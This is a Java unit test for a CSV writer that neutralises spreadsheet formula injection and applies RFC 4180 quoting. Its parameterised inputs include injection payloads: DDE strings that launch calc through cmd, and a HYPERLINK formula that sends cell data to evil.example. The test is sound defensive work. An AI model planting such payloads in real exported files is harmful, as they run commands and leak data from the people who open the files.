package io.yizhan.core.transfer;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells for spreadsheets: quoted as RFC 4180 says, and never a formula. */
class CsvLineTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+1-2",
                "+861085326000",
                "-1+1|cmd",
                "-5.00 CNY",
                "-0205/0100",
                "-",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)"
            })
    void whatASpreadsheetWouldRunIsAText(String formula) {
        String cell = CsvLine.of(List.of(formula)).replaceAll("\r\n$", "");
        String unquoted =
                cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
        assertThat(unquoted).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-5", "-5.25", "-0205", "5", "0", "plain", "1-2", "a=b", "'quoted'", ""})
    void numbersAndOtherTextsStayAsTheyAre(String text) {
        assertThat(CsvLine.of(List.of(text))).isEqualTo(text + "\r\n");
    }

    @Test
    void quotesAreThoseOfRfc4180() throws IOException {
        List<String> cells = List.of("a,b", "say \"jade\"", "two\nlines", "", "plain");
        String line = CsvLine.of(cells);
        assertThat(line).isEqualTo("\"a,b\",\"say \"\"jade\"\"\",\"two\nlines\",,plain\r\n");
        assertThat(new CsvCells(new StringReader(line), ',').next()).contains(cells);
    }
}
